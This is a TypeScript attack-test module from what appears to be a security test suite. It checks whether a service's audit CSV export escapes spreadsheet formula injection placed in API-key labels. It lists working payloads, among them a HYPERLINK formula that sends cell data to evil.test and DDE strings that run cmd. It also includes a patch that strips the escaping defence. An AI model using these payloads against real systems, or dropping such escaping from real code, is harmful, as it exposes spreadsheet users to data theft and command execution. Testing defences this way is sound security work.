import type { AccessAttack } from '../attack.ts';
import { ask } from '../world/http.ts';
import { orderFor } from '../world/tenants.ts';

/** What spreadsheets take for a formula, as the label of an API key: an administrator's, or whoever has their session. */
const formulas = [
  '=HYPERLINK("https://evil.test/?"&A1,"open")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '＝1+1',
  '"=1+1',
  '";=1+1',
  'x\n=1+1',
];

/** The cells of RFC 4180, as a spreadsheet sees them. */
const cellsOf = (csv: string): string[] =>
  [...csv.matchAll(/"((?:[^"]|"")*)"/g)].map(([, cell = '']) => cell.replaceAll('""', '"'));

export const csvFormula: AccessAttack = {
  name: 'csv-formula',
  by: 'every cell is quoted, and one that begins like a formula has an apostrophe in front',
  copy: 'rights',
  defence: [
    {
      file: 'services/signaling/src/http/csv.ts',
      find: "? `'${text}` : text);",
      replace: '? text : text);',
    },
  ],
  run: async ({ consoleUrl, customerUrl, agentOrigin, sessions, own }) => {
    const cookie = await sessions({ kind: 'tenant', role: 'administrator' });
    for (const label of formulas) {
      const made = await ask({
        url: consoleUrl,
        method: 'POST',
        path: '/api/console/api-keys',
        headers: { cookie, origin: agentOrigin },
        body: { label, scopes: ['identifications:order'] },
      });
      if (made.status !== 201) throw new Error(`${label}: ${made.text}`);
      const { key } = made.json as { key: string };
      // so that the label comes to stand in the chain's export
      const headers = { authorization: `Bearer ${key}` };
      await ask({
        url: customerUrl,
        method: 'POST',
        path: '/api/v1/identifications',
        headers,
        body: orderFor(own.contractId),
      });
    }
    const compliance = await sessions({ kind: 'tenant', role: 'compliance' });
    const { text, status } = await ask({
      url: consoleUrl,
      path: '/api/console/audit/export',
      headers: { cookie: compliance },
    });
    const cells = cellsOf(text);
    const shown = formulas.filter(formula =>
      cells.some(cell => cell.includes(formula.trim().slice(1))),
    ).length;
    if (status !== 200 || shown < formulas.length)
      throw new Error(`${shown} of ${formulas.length} labels exported (${status})`);
    const live = cells.filter(cell => /^[\s"]*[=+\-@＝＋－＠\t\r]/u.test(cell.replace(/^\uFEFF/, '')));
    return {
      succeeded: live.length > 0,
      seen: `${formulas.length} formulas among ${cells.length} exported cells: ${live.length} live${live[0] === undefined ? '' : `, as ${live[0].slice(0, 30)}`}`,
    };
  },
};
